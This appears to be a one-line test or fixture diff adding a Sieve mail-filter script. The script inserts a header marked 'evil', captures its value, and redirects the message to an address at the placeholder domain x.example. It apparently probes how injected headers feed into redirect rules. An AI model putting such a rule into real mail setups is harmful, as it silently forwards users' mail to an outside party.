@@ -1,0 +1,1 @@
+require ["editheader","variables"]; addheader "X-T" "evil"; if header :matches "x-t" "*" { redirect "${1}@x.example"; }
